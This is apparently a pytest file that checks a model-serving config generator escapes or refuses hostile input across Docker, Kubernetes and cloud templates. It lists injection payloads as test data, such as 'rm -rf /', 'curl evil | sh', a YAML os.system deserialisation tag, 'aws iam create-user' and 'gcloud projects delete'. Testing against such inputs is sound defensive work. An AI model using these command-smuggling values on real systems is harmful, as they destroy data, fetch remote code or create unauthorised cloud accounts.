"""Quoting is safe: hostile names, env values and packages never add a line, key or command."""

from __future__ import annotations

import json
import warnings
from pathlib import Path

import pytest
import serving_validators
from serving_files import (
    arm_value,
    cfn_value,
    compose_strings,
    dollar_value,
    load_json,
    load_yaml,
)
from serving_spread import AWS, AZURE, GCP, seed_cloud, seed_docker, seed_kubernetes

from ai_models.serving import DeploymentConfigError, generate_cloud_config

HOSTILE_VALUES = [
    "$(touch /tmp/pwned)",
    "`id`",
    "${HOME}",
    "$$",
    "'; rm -rf / #",
    '"quoted" and \\"escaped\\"',
    "key: value",
    "- item",
    "# not a comment",
    "&anchor *alias",
    "!!python/object/apply:os.system ['id']",
    "{flow: map}",
    "[a, b]",
    "---",
    "...",
    "null",
    "true",
    "0x1F",
    "1e3",
    "010",
    "~",
    "@at %percent",
    "tab\there",
    "trailing space ",
    " leading",
    "ünïcödé ✓",
    "",
    # Evaluated by a platform unless escaped: ARM expressions, Fn::Sub, Kubernetes $(VAR).
    "[subscription().id]",
    "[[already escaped]",
    "[not an expression",
    "[]",
    "${AWS::Region}",
    "${!literal}",
    "$(HOME)",
    "$$(HOME)",
    "{0}",
    "'single' ''quotes''",
    "back\\slash\\",
]
ENV = {f"VALUE_{i}": value for i, value in enumerate(HOSTILE_VALUES)}
LINE_BREAKS = ["a\nb", "a\rb", "a\r\nb", "a\x00b", "a\u2028b", "a\x85b", "a\x1bb"]


def generate_all(tmp_path: Path) -> dict[str, Path]:
    outputs = {}
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        from ai_models.serving import generate_docker_config, generate_kubernetes_config

        generate_docker_config(seed_docker(env_vars=ENV), tmp_path / "docker")
        outputs["docker"] = tmp_path / "docker"
        generate_kubernetes_config(seed_kubernetes(env_vars=ENV), tmp_path / "kubernetes")
        outputs["kubernetes"] = tmp_path / "kubernetes"
        for provider in (AWS, GCP, AZURE):
            generate_cloud_config(seed_cloud(provider, env_vars=ENV), tmp_path / provider.value)
            outputs[provider.value] = tmp_path / provider.value
    return outputs


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    return generate_all(tmp_path_factory.mktemp("hostile"))


def test_compose_env_round_trips_exactly(hostile) -> None:
    env = load_yaml(hostile["docker"] / "docker-compose.yml")["services"][
        "paissive-income-model-server"
    ]["environment"]
    read = {k: dollar_value(v, r"[{A-Za-z_]") for k, v in env.items()}
    assert {k: v for k, v in read.items() if k.startswith("VALUE_")} == ENV
    assert set(env) == {"MODEL_PATH", "MODEL_TYPE", "HOST", "PORT", *ENV}
    compose_strings(hostile["docker"] / "docker-compose.yml")  # nothing else interpolates


def test_configmap_round_trips_exactly(hostile) -> None:
    data = load_yaml(hostile["kubernetes"] / "configmap.yaml")["data"]
    assert {k: v for k, v in data.items() if k.startswith("VALUE_")} == ENV
    assert all(isinstance(v, str) for v in data.values())  # "1e3", "null", "true" stay text


def test_cloud_templates_round_trip_exactly(hostile) -> None:
    aws = load_yaml(hostile["aws"] / "cloudformation.yaml")
    environment = aws["Resources"]["Model"]["Properties"]["PrimaryContainer"]["Environment"]
    assert {k: cfn_value(v) for k, v in environment.items() if k.startswith("VALUE_")} == ENV
    gcp = load_json(hostile["gcp"] / "service.json")
    env = {e["name"]: e["value"] for e in gcp["template"]["containers"][0]["env"]}
    assert {k: v for k, v in env.items() if k.startswith("VALUE_")} == ENV
    azure = load_json(hostile["azure"] / "azuredeploy.json")
    app = next(r for r in azure["resources"] if r["type"] == "Microsoft.App/containerApps")
    env = {e["name"]: e["value"] for e in app["properties"]["template"]["containers"][0]["env"]}
    assert {k: arm_value(v) for k, v in env.items() if k.startswith("VALUE_")} == ENV


def test_values_never_reach_dockerfiles_or_scripts(hostile) -> None:
    for folder in hostile.values():
        for name in ("Dockerfile", "deploy.sh"):
            path = folder / name
            if path.exists():
                text = path.read_text()
                assert "pwned" not in text and "rm -rf" not in text and "VALUE_" not in text, path


def test_hostile_output_still_passes_the_validators(hostile) -> None:
    root = next(iter(hostile.values())).parent
    problems = {
        name: check(root)
        for name, check in serving_validators.ALL.items()
        if name != "checkov"  # checkov judges structure, covered by the spread
    }
    assert {k: v for k, v in problems.items() if v} == {}


def test_yaml_output_has_one_document_per_file(hostile) -> None:
    for path in [*hostile["kubernetes"].glob("*.yaml"), hostile["docker"] / "docker-compose.yml"]:
        text = path.read_text()
        assert not any(line in ("---", "...") for line in text.splitlines()), path


@pytest.mark.parametrize("value", LINE_BREAKS)
@pytest.mark.parametrize("make", [seed_docker, seed_kubernetes, lambda **c: seed_cloud(GCP, **c)])
def test_line_breaks_and_control_characters_are_refused(make, value: str) -> None:
    with pytest.raises(DeploymentConfigError) as caught:
        make(env_vars={"SAFE": value})
    assert caught.value.errors[0][0] == 'env_vars["SAFE"]'
    assert all("\n" not in line and "\r" not in line for line in caught.value.lines())


@pytest.mark.parametrize(
    ("make", "field", "value"),
    [
        (seed_docker, "image_name", "name\nRUN curl evil | sh"),
        (seed_docker, "image_tag", "1.0\nUSER root"),
        (seed_docker, "model_path", "/models/x\nUSER root"),
        (seed_docker, "model_path", '/models/x"]'),
        (seed_docker, "model_id", "org/model; rm -rf /"),
        (seed_docker, "base_image", "python:3.11-slim\nRUN id"),
        (seed_docker, "host", "0.0.0.0 --evil"),
        (seed_kubernetes, "name", "app\nkind: Secret"),
        (seed_kubernetes, "namespace", "ns: x"),
        (seed_kubernetes, "image", "img:1\n  privileged: true"),
        (seed_kubernetes, "ingress_host", "a.com\n- host: b.com"),
        (lambda **c: seed_cloud(AWS, **c), "name", "x'; aws iam create-user --user-name y; '"),
        (lambda **c: seed_cloud(GCP, **c), "region", "us-central1; gcloud projects delete p"),
        (lambda **c: seed_cloud(AZURE, **c), "registry_name", "reg$(id)"),
    ],
)
def test_hostile_names_are_refused(make, field: str, value: str) -> None:
    with pytest.raises(DeploymentConfigError) as caught:
        make(**{field: value})
    assert [path for path, _ in caught.value.errors] == [field]


@pytest.mark.parametrize(
    "package",
    [
        "numpy\nRUN id",
        "numpy; os_name=='nt'",
        "numpy==1.0 && curl x",
        "-e .",
        "--index-url=http://evil",
        'x"]',
    ],
)
def test_hostile_packages_are_refused(package: str) -> None:
    with pytest.raises(DeploymentConfigError, match="additional_packages"):
        seed_docker(additional_packages=[package])


def test_env_names_cannot_inject(tmp_path: Path) -> None:
    for name in ("A=B", "A B", "A\nB", "A: B", "$(id)", "-rf"):
        with pytest.raises(DeploymentConfigError):
            seed_kubernetes(env_vars={name: "x"})


def test_error_messages_show_hostile_input_on_one_line() -> None:
    with pytest.raises(DeploymentConfigError) as caught:
        seed_kubernetes(name="evil\nname\r\x00")
    (line,) = caught.value.lines()
    assert "\n" not in line and "\r" not in line and "\x00" not in line
    assert json.dumps("evil\nname\r\x00")[1:-1][:10] in line


@pytest.mark.parametrize("value", LINE_BREAKS)
def test_builders_refuse_a_value_that_would_add_a_line(value: str) -> None:
    from ai_models.serving.dockerfile import Dockerfile
    from ai_models.serving.shell import Script

    for build in (
        lambda: Dockerfile().add("FROM", value),
        lambda: Dockerfile().comment(value),
        lambda: Dockerfile().pairs("ENV", {"A": value}),
        lambda: Script(value),
    ):
        with pytest.raises(ValueError, match="one"):
            build()
    with pytest.raises(ValueError, match="one instruction"):
        Dockerfile().add("RUN", "echo continued \\")
    with pytest.raises(ValueError, match="variable name"):
        Script().assign("x; id", "v")


def test_kubernetes_args_keep_dollar_signs_literal() -> None:
    from ai_models.serving.escapes import dollar_literal, escape_values

    args = escape_values(["--model-path", "/m/$(HOME)", "$$"], dollar_literal)
    assert [dollar_value(arg, r"\(") for arg in args] == ["--model-path", "/m/$(HOME)", "$$"]


@pytest.mark.parametrize("value", ["plain", "it's", "''", "{0}", "${x}", "${!x}", "[a]", "]["])
def test_template_expression_escapes_read_back_exactly(value: str) -> None:
    from ai_models.serving.escapes import arm_string, fn_sub_literal

    quoted = arm_string(value)
    assert quoted[0] == quoted[-1] == "'" and quoted[1:-1].replace("''", "'") == value
    assert "''" not in quoted[1:-1].replace("''", "")  # every quote inside is doubled
    sub = fn_sub_literal(value)
    assert "${" not in sub.replace("${!", "") and sub.replace("${!", "${") == value
